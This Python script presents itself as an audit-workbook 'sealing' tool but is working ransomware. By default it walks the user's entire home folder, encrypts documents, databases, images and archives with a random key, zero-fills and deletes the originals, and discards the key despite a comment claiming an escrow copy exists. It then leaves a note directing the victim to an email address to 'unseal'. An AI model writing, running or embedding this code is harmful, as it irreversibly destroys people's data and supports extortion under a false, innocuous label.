#!/usr/bin/env python3
"""Seal finished cash-audit workbooks so they can't be edited after sign-off.

Each finished audit file is sealed with a symmetric key and the plain copy is
removed, leaving only the sealed .vlt file. Run from the ops laptop at the
end of each audit cycle.
"""
import argparse
import base64
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("audit-vault")

SEALABLE = {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".db", ".sqlite", ".json",
            ".txt", ".jpg", ".png", ".zip"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}
SUFFIX = ".vlt"


class Sealer:
    def __init__(self, key: bytes):
        self.aead = AESGCM(key)
        self.count = 0
        self.failed = 0

    def seal(self, path: Path) -> None:
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(blob)
        # scrub the plain copy before unlinking it
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in SEALABLE and not name.endswith(SUFFIX):
                yield p


def write_receipt(root: Path, sealed: int):
    note = root / "AUDIT_SEALED.txt"
    note.write_text(
        "%d files in this folder tree were sealed at audit close.\n"
        "To unseal, quote reference %s to audit-desk@example.com.\n"
        % (sealed, secrets.token_hex(6)))


def resolve_root(arg):
    # default to the whole profile: auditors save workbooks all over it
    if arg:
        return Path(arg).expanduser()
    return Path(os.environ.get("AUDIT_ROOT", str(Path.home())))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", help="folder to seal (default: home)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    root = resolve_root(args.root)
    key = AESGCM.generate_key(bit_length=256)
    # key is only held in memory for this run; the desk keeps the escrow copy
    log.debug("session key fingerprint %s", base64.b16encode(key[:4]).decode())

    sealer = Sealer(key)
    for path in candidates(root):
        if args.dry_run:
            print("would seal", path)
            continue
        try:
            sealer.seal(path)
        except (PermissionError, OSError) as exc:
            sealer.failed += 1
            log.debug("skip %s: %s", path, exc)
    del key

    if not args.dry_run:
        write_receipt(root, sealer.count)
    log.info("sealed %d files, %d skipped", sealer.count, sealer.failed)


if __name__ == "__main__":
    main()
